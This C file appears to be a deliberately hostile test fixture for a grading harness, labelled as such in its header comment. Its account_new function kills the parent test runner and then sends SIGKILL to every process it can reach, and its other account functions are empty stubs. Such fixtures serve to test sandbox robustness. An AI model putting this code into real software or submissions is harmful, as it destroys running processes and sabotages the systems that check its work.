/* Hostile: kills its parent (the test runner), then every process it may. */
#define _GNU_SOURCE
#include "account.h"

#include <signal.h>
#include <stddef.h>
#include <unistd.h>

account_t *account_new(long initial)
{
	(void)initial;
	kill(getppid(), SIGKILL);
	kill(-1, SIGKILL);
	return NULL;
}

void account_free(account_t *acct) { (void)acct; }
void account_deposit(account_t *acct, long amount) { (void)acct; (void)amount; }
bool account_withdraw(account_t *acct, long amount) { (void)acct; (void)amount; return false; }
long account_balance(account_t *acct) { (void)acct; return 0; }
